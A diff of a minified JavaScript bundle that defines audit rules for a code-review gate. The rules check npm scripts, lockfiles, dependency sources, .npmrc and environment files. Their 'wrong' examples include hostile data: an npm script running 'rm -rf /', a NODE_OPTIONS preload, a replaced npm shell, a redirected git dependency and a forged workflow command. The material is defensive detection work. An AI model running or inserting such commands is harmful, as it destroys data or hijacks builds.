+\`${m?`${o}=${l}`:o}\` is not allowed before a command.`,remedy:"Set `{name}` in the script, or pass the value as an arg\
 ument."}),"workflow-command":(0,n().rule)({anyText:!0,harm:"danger",title:"Argument contains a workflow command",why:"Th\
 e GitHub Actions runner executes workflow commands such as `::set-output \u2026::` and `##[error]` in the output of a step, s\
 o a program that prints its arguments would forge them.",wrong:"node scripts/echo.js '::warning::all is well'",right:"no\
@@ -2459,172 +2472,172 @@ harm:"danger",title:"Argument contains markup that hides text in reports",why:"A
 rom reviewers, and a code fence ends the block that shows the command.",wrong:"node scripts/echo.js '<!-- x -->'",right:"\
 node scripts/echo.js 'x'",message:"`{written}` hides or breaks the text around it where the command is displayed.",remedy:"\
 Remove the markup, or read the text from a file."})})},48516:function(A,t,s){Object.defineProperty(t,"__esModule",{value:!0}),
-t.targetRules=void 0;function e(){const p=s(67298);return e=function(){return p},p}function n(){const p=s(36773);return n=
-function(){return p},p}function i(){const p=s(43767);return i=function(){return p},p}const a=JSON.stringify({scripts:Object.
-fromEntries(Array.from({length:66},(p,l)=>[String(l),l<65?`npm run ${l+1}`:"node x.js"]))});function w(p,l=""){const E=l===
-""?"":`, ${l}`;return{command:"npm test",files:{"package.json":`{ "scripts": ${`{ "test": "${p}"${E} }`} }`}}}function g(p,l){
-const E={"package.json":`{ "scripts": { ${l} } }`};return{command:`npm run ${p}`,files:E}}function o(p,l){return{command:"\
-npm test",files:{".npmrc":p},...l===void 0?{}:{base:{".npmrc":l}}}}function h(p){return{command:"node --env-file=.env sc\
-ripts/check.js",files:{".env":p}}}function c(p){return{command:"node scripts/check.js",files:{"scripts/check.js":p}}}function r(p){
-return{command:"npx eslint src",files:p}}function u(p){const l=[(0,e().gene)({validation:["node scripts/extra.js"]})];return{
-head:{[e().GENES]:l,"scripts/extra.js":p}}}function f(p){const l=E=>`{ "devDependencies": { "eslint": "${E}" } }
-`;return{...r({"package.json":l(p)}),base:{"package.json":l("1.0.0")}}}const d={"package.json":'{ "workspaces": ["pk/*"]\
+t.targetRules=void 0;function e(){const f=s(67298);return e=function(){return f},f}function n(){const f=s(36773);return n=
+function(){return f},f}function c(){const f=s(43767);return c=function(){return f},f}const r=JSON.stringify({scripts:Object.
+fromEntries(Array.from({length:66},(f,u)=>[String(u),u<65?`npm run ${u+1}`:"node x.js"]))});function y(f,u=""){const E=u===
+""?"":`, ${u}`;return{command:"npm test",files:{"package.json":`{ "scripts": ${`{ "test": "${f}"${E} }`} }`}}}function g(f,u){
+const E={"package.json":`{ "scripts": { ${u} } }`};return{command:`npm run ${f}`,files:E}}function o(f,u){return{command:"\
+npm test",files:{".npmrc":f},...u===void 0?{}:{base:{".npmrc":u}}}}function l(f){return{command:"node --env-file=.env sc\
+ripts/check.js",files:{".env":f}}}function m(f){return{command:"node scripts/check.js",files:{"scripts/check.js":f}}}function a(f){
+return{command:"npx eslint src",files:f}}function i(f){const u=[(0,e().gene)({validation:["node scripts/extra.js"]})];return{
+head:{[e().GENES]:u,"scripts/extra.js":f}}}function p(f){const u=E=>`{ "devDependencies": { "eslint": "${E}" } }
+`;return{...a({"package.json":u(f)}),base:{"package.json":u("1.0.0")}}}const h={"package.json":'{ "workspaces": ["pk/*"]\
  }',"pk/a/package.json":'{ "name": "a", "scripts": { "test": "node --test" } }',"pk/b/package.json":'{ "name": "b", "scr\
-ipts": { "test": "node --test" } }'},S={command:"npm test --workspaces",base:d,files:d},k={committed:p=>`\`${p}\` is comm\
-itted, so a change can edit it`,elsewhere:p=>`\`${p}\` does not belong to it`,linked:p=>`\`${p}\` is another path to its \
+ipts": { "test": "node --test" } }'},_={command:"npm test --workspaces",base:h,files:h},v={committed:f=>`\`${f}\` is comm\
+itted, so a change can edit it`,elsewhere:f=>`\`${f}\` does not belong to it`,linked:f=>`\`${f}\` is another path to its \
 files`,removed:()=>"the change removes it from the lockfile",undeclared:()=>"it is not declared in package.json",unlocked:()=>"\
-it is not in the lockfile"},v={alias:(p,l)=>`installs the package \`${l}\` under the name \`${p}\``,file:(p,l)=>`install\
-s \`${p}\` from \`${l}\`, and not from where the base branch has it`,git:(p,l)=>`installs \`${p}\` from the git repositor\
-y \`${l}\``,host:(p,l)=>`installs \`${p}\` from the host \`${l}\`, which the base branch does not use`,integrity:(p,l)=>`\
-has other content for the same version of \`${p}\`: \`${l}\``,tarball:(p,l)=>`installs \`${p}\` from the archive \`${l}\``},
-b={symlink:"is a symbolic link that leads out of the repository",address:"is a URL, not a path in the repository",git:"i\
+it is not in the lockfile"},b={alias:(f,u)=>`installs the package \`${u}\` under the name \`${f}\``,file:(f,u)=>`install\
+s \`${f}\` from \`${u}\`, and not from where the base branch has it`,git:(f,u)=>`installs \`${f}\` from the git repositor\
+y \`${u}\``,host:(f,u)=>`installs \`${f}\` from the host \`${u}\`, which the base branch does not use`,integrity:(f,u)=>`\
+has other content for the same version of \`${f}\`: \`${u}\``,tarball:(f,u)=>`installs \`${f}\` from the archive \`${u}\``},
+d={symlink:"is a symbolic link that leads out of the repository",address:"is a URL, not a path in the repository",git:"i\
 s in the `.git` directory, which is not part of any commit",workspace:"names workspaces that can be outside the reposito\
-ry"},_={directory:"it names a directory without a main file",submodule:"it names a submodule",backslash:"it contains a b\
-ackslash",loop:"its symbolic links form a loop"},y={depth:"scripts that run each other",count:"scripts of one command",time:"\
-seconds for the scripts of all commands"},m=t.targetRules=(0,i().rules)("target","broken",{"target-outside":(0,i().rule)(
+ry"},S={directory:"it names a directory without a main file",submodule:"it names a submodule",backslash:"it contains a b\
+ackslash",loop:"its symbolic links form a loop"},k={depth:"scripts that run each other",count:"scripts of one command",time:"\
+seconds for the scripts of all commands"},w=t.targetRules=(0,c().rules)("target","broken",{"target-outside":(0,c().rule)(
 {harm:"danger",title:"Command runs a file outside the repository",why:"Only the contents of the commit have been reviewe\
 d. A path that leads out of the repository, directly or through a symbolic link, names a file of one machine, and files \
-in `.git` are not part of any commit or diff.",wrong:"node ../other/check.js",right:"node scripts/check.js",message:({path:p,
-reason:l})=>`\`${p}\` ${b[l]??"is outside the repository"}.`,remedy:"Add the file to the repository and use its path rel\
-ative to the root."}),"target-missing":(0,i().rule)({absent:!0,counted:["near","written"],title:"Command runs a file tha\
+in `.git` are not part of any commit or diff.",wrong:"node ../other/check.js",right:"node scripts/check.js",message:({path:f,
+reason:u})=>`\`${f}\` ${d[u]??"is outside the repository"}.`,remedy:"Add the file to the repository and use its path rel\
+ative to the root."}),"target-missing":(0,c().rule)({absent:!0,counted:["near","written"],title:"Command runs a file tha\
 t the commit does not have",why:"Commands see the audited commit, installed dependencies, what `prepare` wrote, and the \
 files that `build_outputs` in the policy names. A file on disk that is none of these has not been reviewed, and other ma\
 chines may not have it. A program of a submodule is not: the change of a submodule is one commit id.",wrong:"node script\
-s/chek.js",right:"node scripts/check.js",message:({path:p,untracked:l,near:E,written:x})=>{const j=l?"is on disk, but no\
-t part of the audited commit":"does not exist in the repository at this commit",N=E===void 0?"":`; \`${E}\` exists`,O=x===
-void 0?"":` A shell reads each \`\\\` of \`${x}\` as an escape and removes it.`;return`\`${p}\` ${j}${N}.${O}`},remedy:({
-near:p,written:l})=>p!==void 0?`Write \`${p}\`, or add the missing file to the change.`:l!==void 0?"Write `/` between th\
+s/chek.js",right:"node scripts/check.js",message:({path:f,untracked:u,near:E,written:x})=>{const j=u?"is on disk, but no\
+t part of the audited commit":"does not exist in the repository at this commit",N=E===void 0?"":`; \`${E}\` exists`,T=x===
+void 0?"":` A shell reads each \`\\\` of \`${x}\` as an escape and removes it.`;return`\`${f}\` ${j}${N}.${T}`},remedy:({
+near:f,written:u})=>f!==void 0?`Write \`${f}\`, or add the missing file to the change.`:u!==void 0?"Write `/` between th\
 e parts of a path.":"Add the file to the change, or correct the path. If a build writes the file, run the build in `prep\
-are`, or name the file in `build_outputs` in the policy of the base branch."}),"target-not-judged":(0,i().notice)({title:"\
+are`, or name the file in `build_outputs` in the policy of the base branch."}),"target-not-judged":(0,c().notice)({title:"\
 Target is judged when commands run",why:"The first half of the audit reads only the commit. Dependencies, build outputs,\
  and what `prepare` writes are judged in the second half, after `prepare` and before anything else runs. Without a run, \
 there is no second half.",wrong:{command:"node dist/main.js",firstHalf:!0},right:{command:"node scripts/check.js",firstHalf:!0},
 message:"`{path}` is not in the commit. It is judged when commands run, after `prepare`.",remedy:"Run the gate with its \
-commands to judge it."}),"target-not-a-file":(0,i().rule)({title:"Command runs a path that is not a regular file",why:"N\
+commands to judge it."}),"target-not-a-file":(0,c().rule)({title:"Command runs a path that is not a regular file",why:"N\
 ode.js runs a directory only if it has a main file: the `main` of its package.json, or `index.js`. A loop of symbolic li\
 nks or a path with backslashes has different meanings on different machines.",wrong:"node scripts",right:"node src",message:({
-path:p,reason:l})=>`\`${p}\` is not the path of a regular file: ${_[l]??l}.`,remedy:"Name a regular file, with forward s\
-lashes in its path."}),"target-extension":(0,i().rule)({title:"File is not code of the language that runs it",why:"Node.\
+path:f,reason:u})=>`\`${f}\` is not the path of a regular file: ${S[u]??u}.`,remedy:"Name a regular file, with forward s\
+lashes in its path."}),"target-extension":(0,c().rule)({title:"File is not code of the language that runs it",why:"Node.\
 js runs `.js`, `.mjs`, `.cjs`, and, in newer versions, `.ts` files. It loads `.node` files as native code. Other program\
 s start a shell for a file of another language, load native code, or serve the file.",wrong:"node data.json",right:"node\
  scripts/check.js",message:"`{path}` has the extension `.{extension}`, which is not of code that `{program}` may run.",remedy:"\
-Name a file in the language of `{program}`, such as a `.js` file for `node`."}),"dependency-unverified":(0,i().rule)({title:"\
+Name a file in the language of `{program}`, such as a `.js` file for `node`."}),"dependency-unverified":(0,c().rule)({title:"\
 Code of a package is not verified",why:"A package is trusted if package.json declares it, the lockfile fixes its content\
 s, and it is installed from there rather than committed. If `node_modules` has another name, version, or binary than the\
  lockfile, another program would run.",wrong:{command:"npx tool-of-a-dependency",files:{"node_modules/.bin/tool-of-a-dep\
 endency":{symlink:"../dependency/tool.js"},"node_modules/dependency/tool.js":"#!/usr/bin/env node"}},right:"npx eslint s\
-rc",message:({name:p,path:l,fault:E,differs:x=E})=>`The package \`${p}\` is not verified: ${k[E]?.(l)??x}.`,remedy:"Decl\
+rc",message:({name:f,path:u,fault:E,differs:x=E})=>`The package \`${f}\` is not verified: ${v[E]?.(u)??x}.`,remedy:"Decl\
 are `{name}` in package.json, commit the lockfile with its entry, keep `node_modules` out of git, and install the depend\
-encies of the lockfile."}),"dependency-redirected":(0,i().rule)({harm:"danger",title:"Change takes a dependency from els\
+encies of the lockfile."}),"dependency-redirected":(0,c().rule)({harm:"danger",title:"Change takes a dependency from els\
 ewhere",why:"A tool that a command starts must be the package of its name from a registry that the base branch uses. An \
 alias, a git repository, an archive, a path outside the repository, a directory of the repository in place of a publishe\
 d package, an unknown registry host, or other content under the same version is the code of somebody else. Another versi\
-on of an alias or commit of a git repository that the base branch already has is accepted.",wrong:f("github:someone/esli\
-nt"),right:f("1.0.1"),message:({name:p,path:l,how:E,to:x})=>`\`${l}\` ${v[E](p,x)}.`,remedy:({name:p,how:l})=>l==="integ\
-rity"?"Restore the entry of the base branch: the content of a published version does not change.":`Use \`${p}\` from a re\
-gistry that the base branch uses, or add the dependency to the base branch first.`}),"dependency-not-compared":(0,i().warning)(
+on of an alias or commit of a git repository that the base branch already has is accepted.",wrong:p("github:someone/esli\
+nt"),right:p("1.0.1"),message:({name:f,path:u,how:E,to:x})=>`\`${u}\` ${b[E](f,x)}.`,remedy:({name:f,how:u})=>u==="integ\
+rity"?"Restore the entry of the base branch: the content of a published version does not change.":`Use \`${f}\` from a re\
+gistry that the base branch uses, or add the dependency to the base branch first.`}),"dependency-not-compared":(0,c().warning)(
 {title:"Tool is not compared with the base branch",why:"The gate reads the lockfile of npm (`package-lock.json` or `npm-\
 shrinkwrap.json`, version 2 or 3), and compares where the tools that commands start come from. A lockfile of another pac\
 kage manager is not read: what it fixes is trusted as long as no change touches it. Without a lockfile, every installati\
 on can take another version of the tool.",wrong:{command:"npx eslint src",without:["package-lock.json"]},right:"npx esli\
-nt src",message:({name:p,path:l})=>l===""?`The repository has no lockfile, so nothing fixes the version of \`${p}\`, whic\
-h the command starts.`:`The change edits \`${l}\`, which the gate does not read and which decides where \`${p}\` comes fr\
-om.`,remedy:({name:p,path:l})=>l===""?"Commit the lockfile of your package manager, such as `package-lock.json`.":`Read \
-what \`${l}\` says about \`${p}\`.`}),"binary-missing":(0,i().rule)({absent:!0,title:"npx would download the tool",why:"\
+nt src",message:({name:f,path:u})=>u===""?`The repository has no lockfile, so nothing fixes the version of \`${f}\`, whic\
+h the command starts.`:`The change edits \`${u}\`, which the gate does not read and which decides where \`${f}\` comes fr\
+om.`,remedy:({name:f,path:u})=>u===""?"Commit the lockfile of your package manager, such as `package-lock.json`.":`Read \
+what \`${u}\` says about \`${f}\`.`}),"binary-missing":(0,c().rule)({absent:!0,title:"npx would download the tool",why:"\
 No declared and locked dependency provides the tool, so npx would search the parent directories and then download it.",wrong:"\
 npx eslnit src",right:"npx eslint src",message:"No declared dependency provides `{name}`, so npx would download it.",remedy:"\
-Add the package of the tool to `devDependencies` and the lockfile."}),"binary-shadowed":(0,i().rule)({harm:"danger",title:"\
+Add the package of the tool to `devDependencies` and the lockfile."}),"binary-shadowed":(0,c().rule)({harm:"danger",title:"\
 Repository provides the tool itself",why:"For npx, `bin` in package.json takes precedence over a tool of the same name f\
-rom a dependency.",wrong:r({"package.json":'{ "bin": { "eslint": "x.js" } }'}),right:r({"package.json":'{ "bin": { "my-t\
+rom a dependency.",wrong:a({"package.json":'{ "bin": { "eslint": "x.js" } }'}),right:a({"package.json":'{ "bin": { "my-t\
 ool": "x.js" }, "devDependencies": { "eslint": "1.0.0" } }'}),message:"`bin` in `{path}` provides `{name}`, so npx would\
- run it instead of the dependency.",remedy:"Run the file with `node`."}),"binary-not-node":(0,i().rule)({title:"Tool is \
+ run it instead of the dependency.",remedy:"Run the file with `node`."}),"binary-not-node":(0,c().rule)({title:"Tool is \
 not a Node.js program",why:"The gate runs tools with Node.js, without a shell. Other tools need a program that the gate \
-does not know.",wrong:r({"node_modules/.bin/eslint":{symlink:"../eslint/eslint"},"node_modules/eslint/eslint":"#!/bin/sh"}),
+does not know.",wrong:a({"node_modules/.bin/eslint":{symlink:"../eslint/eslint"},"node_modules/eslint/eslint":"#!/bin/sh"}),
 right:"npx eslint src",message:"`{name}` (`{path}`) is not a Node.js program.",remedy:"Use a tool that is a Node.js prog\
-ram, or wrap the tool in a Node script."}),"not-installed":(0,i().notice)({title:"Tool is not installed",why:"The audit \
+ram, or wrap the tool in a Node script."}),"not-installed":(0,c().notice)({title:"Tool is not installed",why:"The audit \
 used package.json and the lockfile. The tool must be installed before it can run.",wrong:{command:"npx eslint src",without:[
 "node_modules"]},right:"npx eslint src",message:"`{name}` is declared and locked, but not installed.",remedy:"Install de\
-pendencies first, for example with `prepare: npm ci --ignore-scripts`."}),"build-files-unread":(0,i().notice)({title:"Pr\
+pendencies first, for example with `prepare: npm ci --ignore-scripts`."}),"build-files-unread":(0,c().notice)({title:"Pr\
 ogram runs what the build files of the commit say",why:"Build files, such as a Makefile, `conftest.py`, or `build.rs`, a\
 re code of the commit like a test. The gate does not judge their content, so a reviewer has to. A change to one of them \
 counts as a change to what validates.",wrong:{command:"make test",policy:`programs: [make]
 `,files:{Makefile:`test:
 	node scripts/check.js
-`}},right:"node scripts/check.js",counted:["files","count"],message:({program:p,files:l,count:E})=>`\`${p}\` runs what th\
-e build files of the commit say, which the gate does not read: ${(0,n().inCode)(l)}${E>l.length?`, and ${E-l.length} mor\
-e`:""}.`,remedy:"Review the build files as carefully as the command."}),"target-changed":(0,i().notice)({title:"Change e\
+`}},right:"node scripts/check.js",counted:["files","count"],message:({program:f,files:u,count:E})=>`\`${f}\` runs what th\
+e build files of the commit say, which the gate does not read: ${(0,n().inCode)(u)}${E>u.length?`, and ${E-u.length} mor\
+e`:""}.`,remedy:"Review the build files as carefully as the command."}),"target-changed":(0,c().notice)({title:"Change e\
 dits the file that validates it",why:"The validation changed together with the code that it validates, so a passing resu\
-lt proves less.",wrong:{...c(`console.log('OK');
+lt proves less.",wrong:{...m(`console.log('OK');
 `),base:{"scripts/check.js":`throw new Error('not yet');
 `}},right:"node scripts/check.js",message:"`{path}` validates this change and is also changed by it.",remedy:"Review the\
- file as carefully as the rest of the change."}),"script-unreadable":(0,i().warning)({counted:["why"],title:"Change adds\
+ file as carefully as the rest of the change."}),"script-unreadable":(0,c().warning)({counted:["why"],title:"Change adds\
  a script that nobody can read",why:"Reviewers read what validates a change. They cannot read a script of more than 200 \
 kB, or one with a line of more than 2,000 characters, of which GitHub shows nothing or a part. The gene waits for the ap\
-proval of a person, as for a dangerous command. A script that nobody could read at the base is not reported.",wrong:u(`c\
+proval of a person, as for a dangerous command. A script that nobody could read at the base is not reported.",wrong:i(`c\
 onst data = '<2,001 letters>';
-`),right:u(`console.log('OK');
+`),right:i(`console.log('OK');
 `),message:"`{path}` {why}, and the command runs it.",remedy:"Write `{path}` so that it can be read, with its data in ot\
-her files, or ask a person to approve it."}),"target-writes":(0,i().warning)({writes:!0,title:"Script changes files",why:"\
-The source of the script writes or deletes files, so the script can pass because of what it wrote.",wrong:c("fs.writeFil\
-eSync('out.txt', text)"),right:c("assert.equal(fs.readFileSync('out.txt', 'utf8'), text)"),message:"`{path}` writes or d\
+her files, or ask a person to approve it."}),"target-writes":(0,c().warning)({writes:!0,title:"Script changes files",why:"\
+The source of the script writes or deletes files, so the script can pass because of what it wrote.",wrong:m("fs.writeFil\
+eSync('out.txt', text)"),right:m("assert.equal(fs.readFileSync('out.txt', 'utf8'), text)"),message:"`{path}` writes or d\
 eletes files during validation.",remedy:"Only read files in the script, or write to a temporary directory."}),"npm-scrip\
-t-missing":(0,i().warning)({harm:"broken",title:"npm script or workspace does not exist",why:"The command fails when it \
+t-missing":(0,c().warning)({harm:"broken",title:"npm script or workspace does not exist",why:"The command fails when it \
 runs. It is an error if the command runs nothing and passes, with `--if-present`, or if npm chooses what runs: `npm star\
-t` runs `server.js` if there is no script.",wrong:"npm run chek",right:"npm run check",message:({script:p,passes:l,workspace:E})=>E!==
-void 0?`package.json declares ${E===""?"no workspaces":`no workspace \`${E}\``}.`:`package.json has no script \`${p}\`${l?
+t` runs `server.js` if there is no script.",wrong:"npm run chek",right:"npm run check",message:({script:f,passes:u,workspace:E})=>E!==
+void 0?`package.json declares ${E===""?"no workspaces":`no workspace \`${E}\``}.`:`package.json has no script \`${f}\`${u?
 ", so that the command runs nothing and passes (`--if-present`)":""}.`,remedy:"Add it to package.json, or correct the na\
-me."}),"npm-script-empty":(0,i().rule)({title:"npm script is empty",why:"npm passes without running anything if a script\
+me."}),"npm-script-empty":(0,c().rule)({title:"npm script is empty",why:"npm passes without running anything if a script\
  is empty, so that nothing is validated. A script of only white space and comments is empty, too. It is a warning where \
-another script runs it.",wrong:w(""),right:w("node scripts/check.js"),message:"The npm script `{script}` in `{path}` is \
+another script runs it.",wrong:y(""),right:y("node scripts/check.js"),message:"The npm script `{script}` in `{path}` is \
 empty, so it passes without running anything.",remedy:"Write the command that validates into the script, or do not run t\
-he script."}),"npm-script-form":(0,i().rule)({harm:"danger",title:"npm script is more than simple commands",why:"A scrip\
+he script."}),"npm-script-form":(0,c().rule)({harm:"danger",title:"npm script is more than simple commands",why:"A scrip\
 t is simple commands joined by `&&`, each judged like a command of a gene, with harmless variables, a leading `cd`, and \
 file helpers that write only to paths which git ignores. Other shell syntax can lose a failure or hide which code runs. \
 It is an error where the change brings it or a command passes arguments to it, and a notice where the base has the same \
-text; then all files that the text names count as what validates.",wrong:w("node scripts/check.js || true"),right:w("nod\
-e scripts/a.js && node scripts/b.js"),message:({script:p,text:l,part:E,why:x,words:j})=>`In the npm script \`${p}\`, \`${E}\
-\` ${x}${j.length>0?`, and the command passes ${(0,n().inCode)(j)} to it`:""}: \`${l}\`.`,remedy:"Join simple commands w\
-ith `&&`, or move the work into a Node script."}),"npm-script-text":(0,i().warning)({title:"npm script has a command tha\
+text; then all files that the text names count as what validates.",wrong:y("node scripts/check.js || true"),right:y("nod\
+e scripts/a.js && node scripts/b.js"),message:({script:f,text:u,part:E,why:x,words:j})=>`In the npm script \`${f}\`, \`${E}\
+\` ${x}${j.length>0?`, and the command passes ${(0,n().inCode)(j)} to it`:""}: \`${u}\`.`,remedy:"Join simple commands w\
+ith `&&`, or move the work into a Node script."}),"npm-script-text":(0,c().warning)({title:"npm script has a command tha\
 t would be refused",why:"Each command of a script is judged like a command of a gene. It is an error where the change br\
-ings the script, unless the program is only unknown to the gate; a review decides about that.",wrong:w("touch x"),right:w(
+ings the script, unless the program is only unknown to the gate; a review decides about that.",wrong:y("touch x"),right:y(
 "node scripts/check.js"),message:"The npm script `{script}` runs `{text}`, which would be blocked as a validation comman\
-d (`{reason}`).",remedy:"Use only Node scripts and local tools in the script."}),"npm-script-dangerous":(0,i().rule)({harm:"\
+d (`{reason}`).",remedy:"Use only Node scripts and local tools in the script."}),"npm-script-dangerous":(0,c().rule)({harm:"\
 danger",actor:"human",title:"npm script is destructive",why:"The script deletes files, formats disks, pipes a download i\
-nto a shell, or does similar damage. No validation needs this.",wrong:g("clean",'"clean": "rm -rf /"'),right:w("node --t\
+nto a shell, or does similar damage. No validation needs this.",wrong:g("clean",'"clean": "rm -rf /"'),right:y("node --t\
 est"),message:"The npm script `{script}` {danger}: `{text}`.",remedy:"Remove this command from the script."}),"npm-scrip\
-t-cycle":(0,i().rule)({title:"npm scripts call each other in a cycle",why:"The scripts would run until the time limit st\
+t-cycle":(0,c().rule)({title:"npm scripts call each other in a cycle",why:"The scripts would run until the time limit st\
 ops them.",wrong:g("a",'"a": "npm run b", "b": "npm run a"'),right:g("a",'"a": "node scripts/a.js"'),message:"The npm sc\
-ript `{script}` calls itself.",remedy:"Remove the call that closes the cycle."}),"npm-script-chain":(0,i().rule)({title:"\
+ript `{script}` calls itself.",remedy:"Remove the call that closes the cycle."}),"npm-script-chain":(0,c().rule)({title:"\
 npm scripts run too many other scripts",why:"The gate follows the scripts that an npm script runs, up to a depth, a numb\
-er, and a total time. What is beyond these limits is not judged.",wrong:{command:"npm run 0",files:{"package.json":a}},right:"\
-npm test",counted:["limit"],message:({script:p,limit:l,what:E})=>`The npm script \`${p}\` is not followed: the limit of ${l}\
- ${y[E]} is reached.`,remedy:"Run the commands directly in the script."}),"npmrc-setting":(0,i().rule)({harm:"danger",title:"\
+er, and a total time. What is beyond these limits is not judged.",wrong:{command:"npm run 0",files:{"package.json":r}},right:"\
+npm test",counted:["limit"],message:({script:f,limit:u,what:E})=>`The npm script \`${f}\` is not followed: the limit of ${u}\
+ ${k[E]} is reached.`,remedy:"Run the commands directly in the script."}),"npmrc-setting":(0,c().rule)({harm:"danger",title:"\
 Settings of npm are not known to be harmless",why:"Settings such as the shell, the Node.js options, the workspaces, and \
 `usage` decide which script npm runs, or whether it runs one. npm passes every setting to scripts as `npm_config_\u2026`, and\
  replaces `${NAME}` with an environment variable. The gate does not apply them, but other machines do. A setting that th\
 e base branch has and that decides nothing is a warning; its `ignore-scripts`, and its `node-options` with flags that ar\
-e allowed for `node`, apply.",wrong:o("script-shell=./sh"),right:o("fund=false","fund=true"),message:({path:p,keys:l,why:E})=>{
-if(l.length===0)return`\`${p}\` cannot be read: ${E}.`;const x=`\`${p}\` sets ${(0,n().inCode)(l)}`;return E==="decides"?
+e allowed for `node`, apply.",wrong:o("script-shell=./sh"),right:o("fund=false","fund=true"),message:({path:f,keys:u,why:E})=>{
+if(u.length===0)return`\`${f}\` cannot be read: ${E}.`;const x=`\`${f}\` sets ${(0,n().inCode)(u)}`;return E==="decides"?
 `${x}, which decides what npm runs.`:E==="stands"?`${x}, which is not known to be harmless.`:`${x}, which is new or chan\
-ged, and not known to be harmless.`},remedy:({path:p,keys:l})=>l.length===0?`Commit \`${p}\` as a regular file.`:`Remove\
- these settings from \`${p}\`, or change them in a separate pull request.`}),"package-json-invalid":(0,i().rule)({title:"\
+ged, and not known to be harmless.`},remedy:({path:f,keys:u})=>u.length===0?`Commit \`${f}\` as a regular file.`:`Remove\
+ these settings from \`${f}\`, or change them in a separate pull request.`}),"package-json-invalid":(0,c().rule)({title:"\
 package.json is invalid",why:"The gate cannot determine what npm would run.",wrong:{command:"npm test",files:{"package.j\
-son":'{ "scripts": '}},right:w("node --test"),message:"`{path}` is not a readable JSON file.",remedy:"Fix the file so th\
-at npm can read it."}),"package-json-missing":(0,i().rule)({absent:!0,title:"package.json is missing",why:"npm searches \
+son":'{ "scripts": '}},right:y("node --test"),message:"`{path}` is not a readable JSON file.",remedy:"Fix the file so th\
+at npm can read it."}),"package-json-missing":(0,c().rule)({absent:!0,title:"package.json is missing",why:"npm searches \
 the parent directories, which are outside the repository, and runs the scripts of the package.json that it finds there.",
-wrong:{command:"npm test",without:["package.json"]},right:"node --test",message:({directory:p})=>`${p===""?"The root of \
-the repository":`The directory \`${p}\``} has no package.json, so npm would search the directories above it.`,remedy:"Ad\
-d a package.json with the script, or run a script with `node`."}),"workspaces-changed":(0,i().warning)({title:"Change le\
+wrong:{command:"npm test",without:["package.json"]},right:"node --test",message:({directory:f})=>`${f===""?"The root of \
+the repository":`The directory \`${f}\``} has no package.json, so npm would search the directories above it.`,remedy:"Ad\
+d a package.json with the script, or run a script with `node`."}),"workspaces-changed":(0,c().warning)({title:"Change le\
 aves out a workspace that validates it",why:"npm selects packages by `workspaces` in package.json. If a change edits it,\
- scripts that ran on the base branch may no longer run, or other ones run in their place.",wrong:{...S,files:{...S.files,
-"package.json":'{ "workspaces": ["pk/b"] }'}},right:S,message:"The change edits `{path}`, so that the command no longer \
+ scripts that ran on the base branch may no longer run, or other ones run in their place.",wrong:{..._,files:{..._.files,
+"package.json":'{ "workspaces": ["pk/b"] }'}},right:_,message:"The change edits `{path}`, so that the command no longer \
 runs scripts in {lost}.",remedy:"Restore `workspaces` of the base branch, or review why the packages are left out."}),"p\
-rogram-replaced":(0,i().rule)({title:"Repository replaces a program of the machine in npm scripts",why:"npm puts `node_m\
+rogram-replaced":(0,c().rule)({title:"Repository replaces a program of the machine in npm scripts",why:"npm puts `node_m\
 odules/.bin` first in the PATH of a script. A `bin` of a workspace, or a file there that no package of the lockfile prov\
 ides, runs in place of `node`, `git`, `grep` and the like, also where a program starts them. A `node`, `npm`, `npx` or `\
 sh` of an installed package, or one that the base branch has, is a warning.",wrong:{command:"npm test",files:{"node_modu\
 les/.bin/node":"#!/bin/sh"}},right:"npm test",message:"`{path}` replaces the program `{name}` in npm scripts.",remedy:"G\
-ive the program another name, or remove it."}),"settings-changed":(0,i().rule)({harm:"danger",actor:"human",title:"Chang\
+ive the program another name, or remove it."}),"settings-changed":(0,c().rule)({harm:"danger",actor:"human",title:"Chang\
 e edits settings that decide what a command runs",why:"Settings of a program can replace what it runs, or wrap it: an al\
 ias or `runner` of Cargo, a shell or plug-in of a package manager. `python -m` loads a module of the working directory b\
 efore an installed one, also one of the standard library. The gate does not read such files: what stands at the base is \
@@ -2636,49 +2649,50 @@ runner = "true"
 `,files:{".cargo/config.toml":`[alias]
 t = "check"
 `}},message:"The change edits `{path}`, which can decide what `{program} {subcommand}` runs.",remedy:"Change `{path}` in\
- a separate pull request, or give a module another name."}),"environment-file-unsafe":(0,i().rule)({harm:"danger",title:"\
+ a separate pull request, or give a module another name."}),"environment-file-unsafe":(0,c().rule)({harm:"danger",title:"\
 Environment file changes what runs",why:"Variables such as NODE_OPTIONS load code, and PATH decides which programs run.",
-wrong:h("NODE_OPTIONS=--require=./x.js"),right:{...h("APP_MODE=test"),also:{weakens:"The file is harmless, but the rule \
-reports that it is read."}},message:({path:p,names:l})=>`\`${p}\` ${l.length===0?"is too large to check":`sets ${(0,n().
-inCode)(l)}, which changes what runs`}.`,remedy:"Remove everything from the file that the command does not need."})})},8371:function(A,t,s){
-Object.defineProperty(t,"__esModule",{value:!0}),t.validatorRules=void 0;function e(){const a=s(43767);return e=function(){
-return a},a}const n={"validator-empty-folder":"The validators accept the command but do not find the script."},i=t.validatorRules=
-(0,e().rules)("policy","broken",{"validator-script":(0,e().rule)({title:"Hub validators only run scripts with node",why:"\
-The validators of the protocol's hub start `node` with a script file and nothing else, unless it only prints information\
-. They refuse an npm or npx command, and the gene fails.",wrong:"npm test",right:{command:"node scripts/check.js",also:n},
-message:"The hub's validators accept `node SCRIPT` alone, not {command}.",remedy:"Write a Node script that does the same\
-, and run it with `node`."}),"validator-empty-folder":(0,e().notice)({title:"Hub validators do not find the script",why:"\
-The validators of the protocol's hub run every command in a new, empty directory, without the repository of the gene. A \
-command that they accept can still fail there, because its script does not exist.",wrong:"node scripts/check.js",right:{
-command:"node --version",also:{"only-prints":"The command needs no file, so it validates nothing."}},message:"The hub's \
-validators run in an empty directory, where `{script}` does not exist.",remedy:"Keep the command for your own repository\
-; do not expect it to pass on the hub."}),"validator-flag":(0,e().rule)({counted:["of"],title:"Hub validators refuse the\
- flag",why:"The validators of the protocol's hub refuse flags that run inline code, preload code, or open the debugger a\
-nywhere in a command, also after the script, where Node.js does not read them. Those of newer versions of the reference \
-engine accept no option of `node` but `-c` before a script, or `-v` or `-h` alone, and no backtick or `$(` even in quote\
-s. Both are in use; what only newer ones refuse is a notice.",wrong:"node scripts/check.js -p 3000",right:{command:"node\
- scripts/check.js --port 3000",also:n},message:({flag:a,of:w})=>w==="newer"?`The command is accepted by the validators o\
-f 1.94, not of newer ones, which refuse \`${a}\`.`:`The hub's validators refuse \`${a}\` anywhere in a command.`,remedy:({
-flag:a,of:w})=>w==="script"?"Give the flag of the script another name.":`Write the command without \`${a}\`, and do in th\
